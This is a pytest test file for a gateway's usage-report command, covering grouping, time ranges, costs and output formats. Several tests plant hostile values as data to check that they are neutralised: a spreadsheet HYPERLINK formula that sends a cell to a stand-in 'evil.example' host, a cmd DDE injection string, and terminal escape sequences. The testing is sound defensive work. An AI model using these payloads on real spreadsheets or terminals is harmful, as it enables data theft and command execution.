"""`poolgate usage`: groupings, time ranges, totals, formats and costs from the ledger."""

from __future__ import annotations

import csv
import io
import json
import math
import os
import subprocess
import sys
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import astuple
from rich import box
from rich.console import Console
from rich.measure import Measurement
from rich.table import Table
from sqlalchemy import event
from typer.testing import CliRunner

from poolgate.api.errors import retry_after_fields, retry_headers, whole_seconds
from poolgate.cli import output as cli_output
from poolgate.cli.main import app
from poolgate.cli.output import shown
from poolgate.cli.usage import spreadsheet_safe
from poolgate.lifecycle.quotas import humanize, rfc3339
from poolgate.store.db import open_engine
from poolgate.store.reports import ReportError, format_cost, parse_when, summarize
from poolgate.store.usage import RECORD_FIELDS
from poolgate.store.writer_process import insert_rows
from tests.unit.test_ledger_store import DAY, T0, record

NOON = T0 + DAY / 2


@pytest.fixture
def data_dir(tmp_path: Path) -> Path:
    engine = open_engine(f"sqlite:///{tmp_path / 'poolgate.db'}")
    records = [
        record("a1", NOON, 1_500_000),
        record("a2", NOON + 60, 250_000, session_id="s2", upstream_id="up-1"),
        record("a3", NOON + DAY, None, model="claude-unpriced-9", endpoint="keepalive"),
        record("b1", NOON + 2 * DAY, 20, principal_id="key_b", principal_name="bob", status=429, session_id=None),
    ]
    insert_rows(engine, RECORD_FIELDS, [astuple(r) for r in records])
    return tmp_path


def usage(data_dir: Path, *args: str) -> str:
    result = CliRunner().invoke(app, ["usage", "--data-dir", str(data_dir), *args])
    assert result.exit_code == 0, result.output
    return result.output


def report(data_dir: Path, *args: str) -> dict[str, object]:
    return json.loads(usage(data_dir, "--format", "json", *args))


def test_by_principal_with_totals_and_costs(data_dir: Path) -> None:
    data = report(data_dir)
    groups = {row["group"]: row for row in data["groups"]}  # type: ignore[union-attr,index]
    assert groups["key_a"]["name"] == "alice" and groups["key_a"]["requests"] == 3
    assert groups["key_a"]["cost_micro_usd"] == 1_750_000 and groups["key_a"]["unpriced"] == 1
    assert groups["key_a"]["cost_usd"] == "1.750000"  # a number; the unknown one is counted in `unpriced`
    assert groups["key_b"]["errors"] == 1 and groups["key_b"]["cost_usd"] == "0.000020"
    total = data["total"]
    assert total["requests"] == 4 and total["cost_micro_usd"] == 1_750_020  # type: ignore[index]
    assert report(data_dir, "--by", "key")["groups"] == data["groups"]  # the old name still works


def test_a_session_id_two_callers_chose_is_two_sessions(data_dir: Path) -> None:
    """`--by session` added bob's `s1` to alice's: a session is its caller's (README), as for stickiness and
    budgets."""
    engine = open_engine(f"sqlite:///{data_dir / 'poolgate.db'}")
    bobs = record("b2", NOON + 120, 7, principal_id="key_b", principal_name="bob", session_id="s1")
    insert_rows(engine, RECORD_FIELDS, [astuple(bobs)])
    sessions = {
        (row["group"], row["name"]): row["requests"]
        for row in report(data_dir, "--by", "session")["groups"]  # type: ignore[union-attr]
    }
    assert sessions[("s1", "alice")] == 2 and sessions[("s1", "bob")] == 1
    table = usage(data_dir, "--by", "session")
    assert "s1 (alice)" in table and "s1 (bob)" in table
    rows = list(csv.reader(io.StringIO(usage(data_dir, "--by", "session", "--format", "csv"))))
    assert rows[0][:3] == ["session", "name", "principal"] and ["s1", "bob", "key_b"] in [row[:3] for row in rows]


def test_in_csv_two_callers_of_one_name_have_sessions_of_their_own(data_dir: Path) -> None:
    """Callers' names repeat (two JWT issuers' `alice`, a static key and a token's subject of one name): the CSV of
    `--by session` gave their sessions of one id as two rows alike, `s1,alice,…`, as JSON tells them apart by
    the caller's id."""
    engine = open_engine(f"sqlite:///{data_dir / 'poolgate.db'}")
    namesake = record("c1", NOON + 120, 7, principal_id="sso:alice", principal_name="alice", session_id="s1")
    insert_rows(engine, RECORD_FIELDS, [astuple(namesake)])
    rows = list(csv.reader(io.StringIO(usage(data_dir, "--by", "session", "--format", "csv"))))
    header, *groups, total = rows
    requests = header.index("requests")
    by_caller = {(row[0], row[1], row[2]): int(row[requests]) for row in groups}
    assert by_caller[("s1", "alice", "sso:alice")] == 1
    assert sum(count for (session, name, _), count in by_caller.items() if (session, name) == ("s1", "alice")) == 3
    assert len(by_caller) == len(groups) and total[:3] == ["total", "", ""]
    table = usage(data_dir, "--by", "session")
    assert "s1 (alice, key_a)" in table and "s1 (alice, sso:alice)" in table


def test_by_session_upstream_model_and_day(data_dir: Path) -> None:
    sessions = {row["group"]: row["requests"] for row in report(data_dir, "--by", "session")["groups"]}  # type: ignore[union-attr,index]
    assert sessions == {"s1": 2, "s2": 1, None: 1}
    upstreams = {row["group"]: row["cost_micro_usd"] for row in report(data_dir, "--by", "upstream")["groups"]}  # type: ignore[union-attr,index]
    assert upstreams == {"up-0": 1_500_020, "up-1": 250_000}
    models = {row["group"]: row["cost_usd"] for row in report(data_dir, "--by", "model")["groups"]}  # type: ignore[union-attr,index]
    assert models["claude-unpriced-9"] is None
    endpoints = {row["group"]: row["requests"] for row in report(data_dir, "--by", "endpoint")["groups"]}  # type: ignore[union-attr,index]
    assert endpoints == {"messages": 3, "keepalive": 1}  # what the gateway's own requests cost, apart
    days = [(row["group"], row["requests"]) for row in report(data_dir, "--by", "day")["groups"]]  # type: ignore[union-attr,index]
    first = datetime.fromtimestamp(T0, UTC).date().isoformat()
    assert days[0] == (first, 2) and [count for _, count in days] == [2, 1, 1]


def test_since_and_until_select_a_range(data_dir: Path) -> None:
    day_two = datetime.fromtimestamp(T0 + DAY, UTC).date().isoformat()
    day_three = datetime.fromtimestamp(T0 + 2 * DAY, UTC).date().isoformat()
    only = report(data_dir, "--since", day_two, "--until", day_three)
    assert only["total"]["requests"] == 1 and only["total"]["cost_usd"] is None  # type: ignore[index]
    assert report(data_dir, "--since", "1h")["total"]["requests"] == 0  # type: ignore[index]


@pytest.mark.parametrize("by", ["principal", "session"])
def test_a_report_over_a_time_range_reads_only_the_rows_in_it(data_dir: Path, by: str) -> None:
    """`--since 1d` grouped by principal or session read every row of the ledger, through the grouped column's
    index (on 1.5M rows as slow as an all-time report, 4.6 s): each of its queries finds its rows by time."""
    engine = open_engine(f"sqlite:///{data_dir / 'poolgate.db'}")
    statements: list[tuple[str, object]] = []

    @event.listens_for(engine, "before_cursor_execute")
    def remember(conn: object, cursor: object, statement: str, parameters: object, *_: object) -> None:
        statements.append((statement, parameters))

    for since, until in ((NOON, None), (None, NOON + DAY), (NOON, NOON + DAY)):
        summarize(engine, by, since, until)
    event.remove(engine, "before_cursor_execute", remember)
    assert len(statements) == 3 * 3  # the groups, the total and the amounts in other currencies, each
    with engine.connect() as conn:
        for statement, parameters in statements:
            plan = [row[3] for row in conn.exec_driver_sql(f"EXPLAIN QUERY PLAN {statement}", parameters)]
            assert plan[0].startswith("SEARCH usage USING INDEX ix_usage_started_at"), (statement, plan)


def test_csv_and_table(data_dir: Path) -> None:
    rows = list(csv.reader(io.StringIO(usage(data_dir, "--format", "csv", "--by", "upstream"))))
    assert rows[0][:3] == ["upstream", "requests", "errors"] and rows[-1][0] == "total"
    cost = rows[0].index("cost_usd")
    assert rows[-1][cost] == "1.750020" and rows[-1][rows[0].index("unpriced")] == "1"
    table = usage(data_dir, "--by", "model")
    assert "cost" in table and "USD" in table and "unknown" in table and "total" in table


@pytest.mark.parametrize("columns", ["80", "40"])
def test_the_table_never_cuts_a_number_in_a_narrow_terminal(data_dir: Path, columns: str) -> None:
    """rich cut a table wider than the terminal at its edge: a cost of 0.000176 read `0.000` in 72 columns,
    and month-sized counts lost their last digits in 80. The group names fold; numbers stay whole, and a
    table that still does not fit is printed wider, for the terminal to wrap."""
    result = CliRunner().invoke(
        app, ["usage", "--data-dir", str(data_dir), "--by", "upstream"], env={"COLUMNS": columns}
    )
    assert result.exit_code == 0, result.output
    for whole in ("1.500020", "0.250000", "1.750020"):
        assert whole in result.output


def test_bad_options_fail_clearly(data_dir: Path) -> None:
    result = CliRunner().invoke(app, ["usage", "--data-dir", str(data_dir), "--by", "colour"])
    assert result.exit_code == 1 and "--by must be one of" in result.output
    result = CliRunner().invoke(app, ["usage", "--data-dir", str(data_dir), "--since", "last tuesday"])
    assert result.exit_code == 1 and "not a time" in result.output
    # typer's usage box (exit 2) said "Invalid value for '--format': Value error, 'xml' is not one of …".
    result = CliRunner().invoke(app, ["usage", "--data-dir", str(data_dir), "--format", "xml"])
    assert (result.exit_code, result.output) == (1, "error: --format must be one of table, json, csv\n")


def test_times_are_relative_or_iso_in_utc() -> None:
    now = 1_800_000_000.0
    assert parse_when("24h", now) == now - 86400 and parse_when("7d", now) == now - 7 * 86400
    assert parse_when("90m", now) == now - 5400 and parse_when("2w", now) == now - 14 * 86400
    assert parse_when("2026-11-01", now) == datetime(2026, 11, 1, tzinfo=UTC).timestamp()
    assert parse_when("2026-11-01T12:30", now) == datetime(2026, 11, 1, 12, 30, tzinfo=UTC).timestamp()
    assert parse_when("2026-11-01T12:30+01:00", now) == datetime(2026, 11, 1, 11, 30, tzinfo=UTC).timestamp()
    assert parse_when("2026-11-01 12:30Z", now) == datetime(2026, 11, 1, 12, 30, tzinfo=UTC).timestamp()
    assert parse_when("2026-11-01t12:30z", now) == datetime(2026, 11, 1, 12, 30, tzinfo=UTC).timestamp()
    for wrong in ("soon", "2026-11-01+02:00", "2026-11-01_12:30"):
        with pytest.raises(ReportError, match="is not a time"):
            parse_when(wrong, now)


# Whole minutes, as RFC 3339 writes offsets.
OFFSETS = st.integers(min_value=-(24 * 60 - 1), max_value=24 * 60 - 1).map(lambda minutes: timedelta(minutes=minutes))
ISO_TIMES = st.datetimes(timezones=st.none() | OFFSETS.map(timezone))
SPANS = st.from_regex(r"\A[0-9]{1,400}(\.[0-9]{1,6})?(s|m|min|h|d|w)\Z")
EDGES = st.sampled_from(["9999-12-31T23:59:59.999999", "9999-12-31T23:00-01:00", "0001-01-01T00:00+00:01"])


@given(st.text(max_size=40) | SPANS | ISO_TIMES.map(datetime.isoformat) | EDGES)
def test_any_time_option_is_a_printable_time_or_a_clear_error(text: str) -> None:
    """`--since`/`--until` never give a time that cannot be printed or written as JSON."""
    try:
        when = parse_when(text, 1_800_000_000.0)
    except ReportError:
        return
    assert math.isfinite(when) and rfc3339(when)[4] == "-"


# Up to the last whole second of 9999: its fractions round up to year 10000 as a float.
@given(
    st.datetimes(max_value=datetime(9999, 12, 31, 23, 59, 59), timezones=st.none() | OFFSETS.map(timezone)),
    st.sampled_from("Tt "),
    st.booleans(),
)
def test_an_iso_date_time_within_the_years_1_to_9999_is_taken_as_written(
    moment: datetime, separator: str, lower_case: bool
) -> None:
    aware = moment if moment.tzinfo is not None else moment.replace(tzinfo=UTC)
    try:
        aware.astimezone(UTC)
    except OverflowError:  # its offset moves it out of the years 1–9999
        return
    text = moment.isoformat(sep=separator).replace("+00:00", "Z")
    assert parse_when(text.lower() if lower_case else text, 1_800_000_000.0) == aware.timestamp()


@given(ISO_TIMES, st.characters().filter(lambda character: character not in "Tt "))
def test_a_date_and_time_joined_by_anything_but_t_or_a_space_is_refused(moment: datetime, separator: str) -> None:
    """Not read as some other time: `2025-03-10+02:00` meant 02:00 UTC."""
    with pytest.raises(ReportError, match="is not a time"):
        parse_when(moment.isoformat(sep=separator), 1_800_000_000.0)


def test_a_range_without_requests_costs_nothing_in_every_format(data_dir: Path) -> None:
    """A quiet day's report: the table said 0.000000, and JSON `null` (no price known), CSV an empty cost, which
    a script watching the day's spend read as unknown, or could not compare with its limit."""
    quiet = ("--since", "2020-01-01", "--until", "2020-01-02")
    total = report(data_dir, *quiet)["total"]
    assert (total["requests"], total["cost_micro_usd"], total["cost_usd"]) == (0, 0, "0.000000")  # type: ignore[index]
    [row] = csv.DictReader(io.StringIO(usage(data_dir, "--format", "csv", *quiet)))
    assert (row["principal"], row["cost_micro_usd"], row["cost_usd"]) == ("total", "0", "0.000000")
    assert usage(data_dir, *quiet).split("total")[1].split() == ["0"] * 6 + ["0.000000"]


def test_costs_print_with_six_decimals_and_unknowns_apart() -> None:
    assert format_cost({"cost_micro_usd": 1, "unpriced": 0}) == "0.000001"
    assert format_cost({"cost_micro_usd": 12_345_678, "unpriced": 2}) == "12.345678 (+2 unknown)"
    assert format_cost({"cost_micro_usd": None, "unpriced": 3, "other_currency": 0}) == "unknown"
    assert format_cost({"cost_micro_usd": 0, "unpriced": 0, "other_currency": 0}) == "0.000000"
    # Priced in credits only: it read 0.000000 USD, as if free.
    assert format_cost({"cost_micro_usd": None, "unpriced": 0, "other_currency": 4}) == "-"


def test_csv_labels_a_caller_chose_never_run_as_spreadsheet_formulas(tmp_path: Path) -> None:
    engine = open_engine(f"sqlite:///{tmp_path / 'poolgate.db'}")
    planted = record("f1", NOON, 10, model='=HYPERLINK("http://evil.example/?"&A1,"click")', session_id="=1+1")
    insert_rows(engine, RECORD_FIELDS, [astuple(planted)])
    for by, cell in (("model", "'=HYPERLINK"), ("session", "'=1+1")):
        rows = list(csv.reader(io.StringIO(usage(tmp_path, "--format", "csv", "--by", by))))
        assert rows[1][0].startswith(cell)


# The characters a spreadsheet may split a CSV line at: the comma, the semicolon (Excel's list separator where
# the decimal mark is a comma: it opens a .csv with it in Germany or France) and the tab.
SPREADSHEET_SEPARATORS = (",", ";", "\t")


def test_csv_labels_run_as_no_formula_where_a_spreadsheet_splits_lines_at_semicolons(tmp_path: Path) -> None:
    """A session id is the client's to choose: `s1;=cmd|' /C calc'!A0` was written as it came (nothing in it
    needs quotes in a comma-separated file), and Excel set to a semicolon list separator opened it as two cells,
    the second a formula. Wherever a label may be split, what follows starts with an apostrophe."""
    engine = open_engine(f"sqlite:///{tmp_path / 'poolgate.db'}")
    planted = "s1;=cmd|' /C calc'!A0"
    insert_rows(engine, RECORD_FIELDS, [astuple(record("f1", NOON, 10, session_id=planted, principal_name="x;+1"))])
    text = usage(tmp_path, "--format", "csv", "--by", "session")
    for separator in SPREADSHEET_SEPARATORS:
        cells = [cell for row in csv.reader(io.StringIO(text), delimiter=separator) for cell in row]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], (separator, text)
    # Read as the comma-separated file it is, the labels are whole, apostrophes aside.
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][:2] == ["s1;'=cmd|' /C calc'!A0", "x;'+1"]


@given(st.text(alphabet=st.sampled_from("ab=+-@;,\t '"), max_size=12))
def test_no_piece_of_a_csv_label_a_spreadsheet_may_split_off_starts_like_a_formula(label: str) -> None:
    safe = spreadsheet_safe(label)
    for separator in SPREADSHEET_SEPARATORS:
        assert not [piece for piece in safe.split(separator) if piece[:1] in ("=", "+", "-", "@", "\t")], safe
    # Nothing but apostrophes is added.
    assert safe.replace("'", "") == label.replace("'", "")


def _usage_process(data_dir: Path, **env: str) -> str:
    """`poolgate usage` as a script or CI job runs it: no terminal on any of its standard streams."""
    environ = {key: value for key, value in os.environ.items() if key != "COLUMNS"} | env
    done = subprocess.run(
        [sys.executable, "-m", "poolgate", "usage", "--data-dir", str(data_dir)],
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        env=environ,
        timeout=120,
        check=True,
    )
    return done.stdout


def test_tables_are_not_folded_where_there_is_no_terminal(tmp_path: Path) -> None:
    # rich assumed 80 columns without a terminal: the label below came out over four lines.
    engine = open_engine(f"sqlite:///{tmp_path / 'poolgate.db'}")
    name = "demo-20261203-103205-ci-nightly-runner"
    insert_rows(engine, RECORD_FIELDS, [astuple(record("a1", NOON, 1_500_000, principal_name=name))])
    lines = _usage_process(tmp_path).splitlines()
    assert any(f"{name} (key_a)" in line and "1.500000" in line for line in lines), lines
    # Whoever sets COLUMNS gets that width.
    assert not any(f"{name} (key_a)" in line for line in _usage_process(tmp_path, COLUMNS="60").splitlines())


def test_text_a_caller_chose_cannot_rewrite_the_operators_terminal(tmp_path: Path) -> None:
    """A model name, JWT subject or session id is the caller's to choose: printed raw, an escape sequence
    recoloured the operator's terminal, a newline forged a row, and `[link=…]` was read as rich markup.
    Reports show control characters as `\\xNN`, as the log does, and never read a caller's text as markup."""
    engine = open_engine(f"sqlite:///{tmp_path / 'poolgate.db'}")
    forged = "claude-x\n2026-12-03 FORGED\x1b[31m[blink]"
    planted = record("req_forged", NOON, 10, model=forged, principal_name="bob\x1b]0;pwned\x07", session_id="s\r\x9b2J")
    insert_rows(engine, RECORD_FIELDS, [astuple(planted)])
    outputs = [usage(tmp_path, "--by", by) for by in ("model", "principal", "session")]
    outputs.append(usage(tmp_path, "--by", "model", "--format", "csv"))
    route = CliRunner().invoke(app, ["route", "last", "--data-dir", str(tmp_path)])
    assert route.exit_code == 0, route.output
    outputs.append(route.output)
    for output in outputs:
        assert not any((ord(char) < 0x20 and char != "\n") or 0x7F <= ord(char) < 0xA0 for char in output), output
        assert "FORGED" not in output or "claude-x\\x0a2026-12-03 FORGED\\x1b[31m" in output, output
    assert "claude-x\\x0a2026-12-03 FORGED\\x1b[31m[blink]" in outputs[0]  # shown whole, markup included
    assert "bob\\x1b]0;pwned\\x07" in outputs[1] and "s\\x0d\\x9b2J" in outputs[2]
    assert "model=claude-x\\x0a" in outputs[4]


def test_costs_in_another_currency_are_reported_apart_with_their_amounts(tmp_path: Path) -> None:
    """A channel priced in credits: its requests were only counted, their amount was in no report."""
    engine = open_engine(f"sqlite:///{tmp_path / 'poolgate.db'}")
    records = [record("u1", NOON, 1_000), record("c1", NOON, 975, currency="credits", upstream_id="credits")]
    insert_rows(engine, RECORD_FIELDS, [astuple(r) for r in records])
    data = report(tmp_path)
    assert data["total"]["cost_micro_usd"] == 1_000 and data["total"]["other_costs"] == {"credits": 975}  # type: ignore[index]
    assert "1 request priced in another currency (0.000975 credits)" in usage(tmp_path)
    groups = {row["group"]: row for row in report(tmp_path, "--by", "upstream")["groups"]}  # type: ignore[union-attr]
    assert groups["credits"]["other_costs"] == {"credits": 975} and groups["up-0"]["other_costs"] == {}
    text = usage(tmp_path, "--by", "upstream", "--format", "csv")
    rows = {row["upstream"]: row for row in csv.DictReader(io.StringIO(text))}
    assert rows["credits"]["other_cost_credits"] == "0.000975" and rows["credits"]["cost_usd"] == ""
    assert rows["up-0"]["other_cost_credits"] == "0.000000" and rows["total"]["other_cost_credits"] == "0.000975"


def test_a_request_without_a_model_is_shown_as_a_dash_like_other_missing_labels(tmp_path: Path) -> None:
    """A body without a readable model is recorded with an empty one: its row had no label at all."""
    engine = open_engine(f"sqlite:///{tmp_path / 'poolgate.db'}")
    insert_rows(engine, RECORD_FIELDS, [astuple(record("r1", NOON, 10, model="", status=400))])
    [row] = [line for line in usage(tmp_path, "--by", "model").splitlines() if line.strip().startswith("-")]
    assert row.split()[:2] == ["-", "1"]


def test_a_report_of_thousands_of_sessions_has_a_line_for_each(tmp_path: Path) -> None:
    """Every row of a big report, with its own numbers (50,000 sessions took 50 s and 420 MB as a table)."""
    engine = open_engine(f"sqlite:///{tmp_path / 'poolgate.db'}")
    records = [record(f"r{i}", NOON, 10, session_id=f"s{i:04d}", input_tokens=1000 + i) for i in range(2000)]
    insert_rows(engine, RECORD_FIELDS, [astuple(r) for r in records])
    lines = usage(tmp_path, "--by", "session").splitlines()
    inputs = {line.split()[0]: line.split()[4] for line in lines if "(alice)" in line}
    assert inputs == {f"s{i:04d}": f"{1000 + i:,}" for i in range(2000)}
    assert [line.split()[:2] for line in lines if "total" in line] == [["total", "2,000"]]


def test_a_tab_in_a_caller_chosen_name_is_shown_not_expanded(tmp_path: Path) -> None:
    """A table expanded a session id's tab into spaces: `x\t=cmd` read as `x       =cmd`, as if two values."""
    engine = open_engine(f"sqlite:///{tmp_path / 'poolgate.db'}")
    insert_rows(engine, RECORD_FIELDS, [astuple(record("r1", NOON, 10, session_id="x\t=cmd"))])
    said = usage(tmp_path, "--by", "session")
    assert r"x\x09=cmd" in said and "x " not in said


def _report_table(rows: int) -> Table:
    """A table as `poolgate usage` prints it: names that fold, numbers that stay whole, a total in bold."""
    table = Table("session", "requests", "cache\nwrite", "cost\nUSD", box=box.SIMPLE_HEAD, pad_edge=False)
    table.columns[0].overflow = "fold"
    for column in table.columns[1:]:
        column.justify = "right"
        column.no_wrap = True
    names = ["s1 (alice)", "a-session-id-of-forty-characters-no-gap", "会话 (bob)", shown("[blink]x\x1b"), "-"]
    names.append("my\tmodel")  # a tab goes to the next tab stop
    for index in range(rows):
        table.add_row(shown(names[index % len(names)]), f"{index:,}", f"{index * 977:,}", "0.000176")
    table.add_row("[bold]total[/bold]", f"[bold]{rows:,}[/bold]", "[bold]1[/bold]", "[bold]6172.839450[/bold]")
    return table


@pytest.mark.parametrize("width", [200, 60, 46])
def test_a_report_table_prints_as_rich_prints_it(monkeypatch: pytest.MonkeyPatch, width: int) -> None:
    """Its body rows are laid out apart from rich's table: line for line what rich prints, names folded."""
    printed = io.StringIO()
    monkeypatch.setattr(cli_output, "console", cli_output.CliConsole(file=printed, width=width, emoji=False))
    table = _report_table(12)
    cli_output.print_whole(table)
    expected = io.StringIO()
    Console(file=expected, width=width, emoji=False).print(table)
    assert printed.getvalue() == expected.getvalue()


def test_a_report_table_is_not_measured_cell_by_cell(monkeypatch: pytest.MonkeyPatch) -> None:
    """rich measured each cell of a table three times over and rendered it apart: 35 s of the 50 s a report
    of 50,000 sessions took. A table of thousands of rows costs as many measurements as one of ten."""
    monkeypatch.setattr(cli_output, "console", cli_output.CliConsole(file=io.StringIO(), width=120, emoji=False))
    measure = Measurement.get
    counts: list[int] = []
    for rows in (10, 2000):
        calls = 0

        def counted(*args: Any) -> Measurement:
            nonlocal calls
            calls += 1
            return measure(*args)

        monkeypatch.setattr(Measurement, "get", counted)
        cli_output.print_whole(_report_table(rows))
        counts.append(calls)
    assert counts[0] == counts[1]


def test_a_wait_worked_out_from_a_deadline_is_said_in_the_units_it_was_given() -> None:
    """`until - now` for `until = now + 1800` on a monotonic clock an hour in is 1800.0000000000005: the warning
    that an account is out for 30 minutes said 31 (a flaky test's failure, one run in four)."""
    now = 3080.455737406
    assert (now + 1800) - now > 1800
    assert humanize((now + 1800) - now) == "30 min"
    assert humanize(1800.4) == "31 min" and humanize(58.2) == "59 s" and humanize(0.0004) == "0 s"


@given(st.floats(min_value=0, max_value=1e7), st.integers(min_value=1, max_value=10**6))
def test_a_wait_worked_out_from_a_deadline_is_its_whole_seconds(now: float, wait: int) -> None:
    """The same round-off in a 529's `retry-after` (the seconds until the first account is back) told a client
    to wait a second longer than it had to."""
    assert whole_seconds((now + wait) - now) == wait


@given(st.floats(min_value=-10, max_value=1e7, allow_nan=False))
def test_retry_after_ms_is_the_wait_to_the_millisecond_and_retry_after_its_whole_seconds_rounded_up(
    wait: float,
) -> None:
    """The SDKs read `retry-after-ms` before `retry-after`: a 0.2 s wait said only as `retry-after: 1` kept them
    waiting a second. Neither may say 0 (the SDKs then back off their own way), and the two agree."""
    fields = dict(retry_after_fields(wait))
    milliseconds, seconds = int(fields[b"retry-after-ms"]), int(fields[b"retry-after"])
    assert milliseconds >= 1 and seconds == math.ceil(milliseconds / 1000)
    if wait >= 0.001:
        assert abs(milliseconds - wait * 1000) <= 0.5 + 1e-6 * wait
        assert seconds == whole_seconds(wait)
    # Past a minute the client is told not to retry; the wait is still said, to the millisecond.
    advice = dict(retry_headers(wait))
    assert advice.get(b"x-should-retry") == (b"false" if seconds > 60 else None)
    assert advice[b"retry-after-ms"] == fields[b"retry-after-ms"]
